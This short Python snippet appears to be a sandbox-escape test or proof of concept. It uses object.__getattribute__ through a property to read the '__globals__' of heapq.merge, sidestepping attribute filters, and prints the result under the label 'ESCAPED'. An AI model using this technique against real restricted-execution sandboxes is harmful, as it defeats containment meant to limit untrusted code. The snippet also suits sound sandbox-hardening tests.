# A property whose fget is object's lookup.
class C(str):
    p = property(object.__getattribute__)
import heapq
print("ESCAPED", property(lambda n: object.__getattribute__(heapq.merge, n)).fget("__globals__"))
